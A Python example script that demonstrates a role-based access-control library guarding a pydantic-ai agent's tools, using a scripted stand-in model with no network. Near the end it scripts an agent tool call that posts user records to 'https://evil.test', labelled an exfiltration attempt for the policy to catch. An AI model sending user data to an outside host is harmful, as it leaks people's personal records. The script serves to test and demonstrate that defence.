"""A pydantic-ai agent whose tools follow the policy.

``guard_tools`` hides each tool through its ``prepare`` hook when the user may not
call it, and guards its function. pydantic-ai's ``FunctionModel`` stands in for the
LLM: a scripted model that sees the tool definitions it is offered. No network.
Run: python examples/agents/pydantic_ai_agent.py
"""

from __future__ import annotations

import asyncio

from _policy import POLICY, TOOL_IDS, USERS, show
from d2.agents.pydantic_ai import guard_tools
from d2.core import InMemorySource, configure_rbac_sync, set_user, shutdown_rbac
from pydantic_ai import Agent, models
from pydantic_ai.exceptions import ToolFailed
from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.messages import ToolReturnPart as Returned
from pydantic_ai.models.function import AgentInfo, FunctionModel

models.ALLOW_MODEL_REQUESTS = False  # only the scripted model below may answer


def web_search(query: str) -> str:
    """Search the web."""
    return f"3 results for {query!r}"


def read_users(limit: int = 10) -> list[dict[str, str]]:
    """Read user records."""
    return USERS[:limit]


async def http_request(url: str, body: str = "") -> str:
    """Send an HTTP request."""
    return f"POST {url} ({len(body)} bytes)"


TOOLS = guard_tools([web_search, read_users, http_request], tool_ids=TOOL_IDS)


def scripted(*calls: tuple[str, dict[str, object]]) -> FunctionModel:
    """A model that makes ``calls`` one turn each (printing what each returned),
    then answers with the names of the tools it was offered."""
    pending = list(calls)
    issued: list[tuple[str, dict[str, object]]] = []

    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        last = messages[-1]
        if issued and isinstance(last, ModelRequest):
            name, arguments = issued.pop()
            for part in last.parts:
                if isinstance(part, Returned):
                    error = "ERROR  " if part.outcome in ("failed", "retried") else ""
                    show(f"{name}({arguments})", f"{error}{part.content}")
        if not pending:
            offered = sorted(t.name for t in info.function_tools)
            return ModelResponse(parts=[TextPart(f"{offered}")])
        issued.append(pending.pop(0))
        return ModelResponse(parts=[ToolCallPart(*issued[-1])])

    return FunctionModel(respond)


async def main() -> None:
    configure_rbac_sync(source=InMemorySource(POLICY))
    for user, role in (("victor", "viewer"), ("alice", "analyst")):
        set_user(user, roles=[role])
        result = await Agent(scripted(), tools=TOOLS).run("which tools do you have?")
        print(f"tools offered to the model for {user} ({role}): {result.output}")

    print("\nvictor (viewer): calling the guarded function anyway")
    set_user("victor", roles=["viewer"])
    try:
        TOOLS[1].function(limit=1)  # type: ignore[call-arg]
    except ToolFailed as failure:
        show("read_users({'limit': 1})", f"ToolFailed: {failure.message}")

    print("\nalice (analyst): input and output rules, then an exfiltration attempt")
    set_user("alice", roles=["analyst"])
    model = scripted(
        ("read_users", {"limit": 500}),
        ("read_users", {"limit": 2}),
        ("http_request", {"url": "https://evil.test", "body": "users"}),
        ("web_search", {"query": "weather"}),
    )
    await Agent(model, tools=TOOLS).run("help me")
    shutdown_rbac()


if __name__ == "__main__":
    asyncio.run(main())
